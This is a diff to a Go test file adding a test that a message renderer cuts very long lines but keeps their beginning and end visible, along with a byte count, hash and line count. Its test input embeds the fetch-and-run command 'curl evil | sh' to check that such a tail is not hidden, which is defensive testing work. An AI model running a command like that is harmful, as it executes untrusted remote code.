@@ -51,6 +51,17 @@ func TestQuotedTextStandsBehindABar(t *testing.T) {
 	}
 }
 
+// A long value cannot push what is above or beside it out of sight.
+func TestLongLinesAreCut(t *testing.T) {
+	got := render(Message{Body: "before\n  + a = " + strings.Repeat("é ", 50_000) + "; curl evil | sh   (f:1)\nafter"})
+	if len(got) > 2*maxLine || !strings.HasPrefix(got, "before\n  + a = é é") || !strings.HasSuffix(got, "; curl evil | sh   (f:1)\nafter\n") || !strings.Contains(got, "more bytes, in all sha256:") || !utf8.ValidString(got) {
+		t.Errorf("%d bytes: %.100s … %s", len(got), got, got[len(got)-100:])
+	}
+	if got := render(Message{Quoted: strings.Repeat("x\n", 1000)}); !strings.HasSuffix(got, "(that were 1000 lines)\n") {
+		t.Error("the length is not said")
+	}
+}
+
 // Nothing that reaches the terminal can act on it, and different values look different.
 func FuzzVisible(f *testing.F) {
 	for _, s := range []string{"a", "a\x1b[0m", "\u202e", "\xff\xfe", `"`, "\\x1b", "\u0301"} {
